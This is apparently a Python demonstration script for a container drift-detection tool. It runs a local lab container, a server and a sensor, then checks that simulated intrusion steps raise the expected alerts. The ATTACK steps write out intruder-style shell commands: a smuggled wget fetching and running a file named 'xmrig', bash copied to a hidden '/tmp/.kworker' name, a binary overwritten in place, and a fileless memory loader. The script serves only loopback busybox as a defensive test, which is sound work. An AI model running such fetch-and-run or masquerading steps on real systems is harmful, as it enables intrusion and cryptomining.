"""Demonstration: a real container, an attack inside it, and a server and sensor that detect and stop the drift.

Starts a private containerd, runs the image ``web`` (a shell and a few programs, no wget) as a pod,
starts ``driftline server`` and a ``driftline sensor`` that joins it and gets its policy from it, then
performs in the container what intruders and careless users do. Everything is removed at the end
except the server's data, which is kept for inspection.
"""

from __future__ import annotations

import contextlib
import http.server
import os
import secrets
import shutil
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Mapping, Sequence
from functools import partial
from pathlib import Path
from typing import Any

import httpx

import lab
from driftline.cli._shared import credentials, http_client, item_list
from lab import LabContainer

DATA = Path("/var/tmp/driftline-demo")
STORE = DATA / "store"
CA = DATA / "server" / "pki" / "ca.pem"
POLICY = Path(__file__).parent.parent / "deploy" / "policies" / "demo.yaml"
DRIFTLINE = (sys.executable, "-m", "driftline.cli")
PAUSE = 1.0  # seconds between the steps, so that a person can follow the output

# Steps in the container: a description, and a shell script.
BENIGN = (
    ("runs a program of the image", "ls / >/dev/null; id >/dev/null"),
    ("changes the mode of an image program, and runs it", "chmod 0711 /usr/bin/head; head -c0 /etc/hostname"),
    ("touches an image program, and runs it", "touch /usr/bin/env; env true"),
)
ATTACK = (
    (
        "runs a wget that was copied into the container: the image has none",
        "/tmp/wget -q -O /tmp/xmrig http://127.0.0.1:{port}/tool",
    ),
    ("runs the program that wget downloaded", "chmod +x /tmp/xmrig; /tmp/xmrig sleep 0.1"),
    ("copies the image's shell to another name", "cp /bin/bash /tmp/.kworker; /tmp/.kworker -c true"),
    ("overwrites an image program in place", "cat /tmp/wget > /usr/bin/head; head -c0 /etc/hostname"),
    ("writes a script and runs it", "echo id > /tmp/x.sh; sh /tmp/x.sh >/dev/null"),
    ("runs a loader that executes a program from memory, without a file", "/tmp/loader /bin/sleep kworker 0.3"),
)
BLOCKED = ("runs the copied wget, where the policy blocks it", "/tmp/wget --help; echo exit code $?")
EXPECTED_ALERTS = 8  # one for each step, for the program run from memory, and for the blocked wget


def say(text: str = "") -> None:
    """Print a line at once, since other processes write to the same terminal."""
    print(text, flush=True)


@contextlib.contextmanager
def downloads() -> Iterator[int]:
    """Serve a folder with one tool on loopback; yield the port."""
    with tempfile.TemporaryDirectory() as folder:
        shutil.copy("/bin/busybox", Path(folder, "tool"))
        handler = partial(QuietHandler, directory=folder)
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1]
        server.shutdown()


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_: object) -> None:
        """Suppress the log line of each request."""


@contextlib.contextmanager
def server() -> Iterator[http_client.Client]:
    """Run the server, and yield a client that is logged in as an admin by ``driftline login --setup``."""
    with socket.create_server(("127.0.0.1", 0)) as probe:
        port = probe.getsockname()[1]
    command = (
        *DRIFTLINE, "server", "--port", str(port), "--data", DATA / "server", "--store", STORE,
        "--set", "sensor_names=localhost", "--set", "log_level=WARNING",
    )  # fmt: skip
    process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True)
    assert process.stderr
    setup = process.stderr.readline().split()[-1]  # "no users yet; … setup token: dltk_…"
    url = f"https://localhost:{port}"
    say(f"driftline: server on {url}, pid {process.pid}")
    try:
        wait_until(lambda: is_ready(url))
        os.environ |= {"DRIFTLINE_CREDENTIALS": str(DATA / "credentials.json")}
        answers = f"{setup}\n{secrets.token_urlsafe()}\n"
        login = (*DRIFTLINE, "login", "--server", url, "--name", "demo", "--ca", CA, "--setup")
        subprocess.run(login, input=answers, text=True, check=True)
        with http_client.connect() as client:
            yield client
    finally:
        process.terminate()
        process.wait(timeout=30)


def is_ready(url: str) -> bool:
    """Report whether the server answers ``/readyz``."""
    try:
        return httpx.get(f"{url}/readyz", verify=ssl.create_default_context(cafile=str(CA))).is_success
    except (httpx.TransportError, OSError):
        return False


def wait_until(condition: Callable[[], Any]) -> Any:
    """Call ``condition`` for up to 30 seconds; return its first true result."""
    deadline = time.monotonic() + 30
    while not (found := condition()):
        if time.monotonic() > deadline:
            sys.exit("demo: the server did not do what was expected within 30 s")
        time.sleep(0.1)
    return found


@contextlib.contextmanager
def sensor(runtime: Path, client: http_client.Client) -> Iterator[None]:
    """Run a sensor that joins the server, and put a policy in force; its alerts appear in this terminal."""
    token = client.call("POST", "/join-tokens", body={"cluster": "demo"})["token"]
    url = credentials.load_credentials().server
    command = (
        *DRIFTLINE, "sensor", "--server", url, "--state", DATA / "sensor", "--runtime", runtime,
        "--images", DATA / "images", "--listen", "127.0.0.1:0",
    )  # fmt: skip
    process = subprocess.Popen(command, stderr=subprocess.PIPE, text=True, env={**os.environ, "DRIFTLINE_JOIN": token})
    assert process.stderr is not None
    say(process.stderr.readline().rstrip())
    threading.Thread(target=lambda: [say(line.rstrip()) for line in process.stderr or ()], daemon=True).start()
    try:
        begun = time.monotonic()
        client.call("PUT", "/policies/demo", body={"text": POLICY.read_text(), "message": "the demo's rules"})
        wait_until(lambda: [it for it in client.items("/policies/sensors") if it["current"]])
        say(f"policy demo:1 saved on the server, in force on the node after {time.monotonic() - begun:.1f} s")
        yield
    finally:
        process.terminate()
        process.wait(timeout=30)


def act(container: LabContainer, about: str, script: str) -> None:
    """Run one step in the container: print its description and script, then its output."""
    say(f"\n\033[2m# someone in the container {about}\033[0m\n\033[1m$ {script}\033[0m")
    result = container.sh(script)
    if result.stdout:
        say(result.stdout.decode().rstrip())
    time.sleep(PAUSE)


def bring(container: LabContainer, name: str, content: bytes) -> None:
    """Copy a tool into the container, as `kubectl cp` does."""
    container.sh(f"cat > /tmp/{name}; chmod +x /tmp/{name}", stdin=content)


def main() -> None:
    """Run the demonstration; exit with an error if the alerts are not the expected ones."""
    if os.geteuid():
        sys.exit("demo: needs root, for containers and eBPF")
    for name in ("store", "server", "sensor"):
        shutil.rmtree(DATA / name, ignore_errors=True)
    with lab.start("demo") as it, downloads() as port, server() as client:
        web = it.pod("web-1", namespace="shop", labels={"app": "web"}).container("web")
        with sensor(it.socket, client):
            say("\n== benign: no alert may appear below ==")
            for about, script in BENIGN:
                act(web, about, script)
            say("\n== drift: each must appear as an alert ==")
            bring(web, "wget", Path("/bin/busybox").read_bytes())
            bring(web, "loader", it.pod("tools").container("busybox").exec("cat", "/opt/lab/memexec").stdout)
            for about, script in ATTACK:
                act(web, about, script.format(port=port))
            say("\n== prevention: the program must be killed before its first instruction ==")
            payments = it.pod("pay-1", namespace="payments", labels={"app": "pay"}).container("web")
            bring(payments, "wget", Path("/bin/busybox").read_bytes())
            act(payments, *BLOCKED)
        say("\n== the alerts on the server ==")
        check(client)
        say("\n== the fleet: driftline fleet sensors ==")
        subprocess.run((*DRIFTLINE, "fleet", "sensors"), check=True)
    say(f"\nThe store is {STORE}: try")
    say(f"  .venv/bin/driftline alerts --store {STORE}\n  .venv/bin/driftline events --store {STORE} --drift yes")
    say(f"  .venv/bin/driftline hunt --store {STORE} --run dropped-tool-executed")


def check(client: http_client.Client) -> None:
    """Print the server's alerts; exit with an error unless they are exactly the expected ones."""
    alerts = wait_until(lambda: it if _count(it := of_drift(client)) >= EXPECTED_ALERTS else None)
    item_list.print_items(alerts, ("severity", "title", "count", "rule"), "table")
    if _count(alerts) != EXPECTED_ALERTS:
        sys.exit(f"demo: expected {EXPECTED_ALERTS} alerts, the server counted {_count(alerts)}")
    say(f"{len(alerts)} alerts of {EXPECTED_ALERTS} executions: repeats of one finding are one alert with a count")
    say(f"none for the {len(BENIGN)} benign steps")


def _count(alerts: Sequence[Mapping[str, Any]]) -> int:
    return sum(alert["count"] for alert in alerts)


def of_drift(client: http_client.Client) -> list[dict[str, Any]]:
    """Return the server's alerts of the drift detection."""
    return [alert for alert in client.items("/alerts") if alert["detection_source"] == "Binary drift"]


if __name__ == "__main__":
    main()
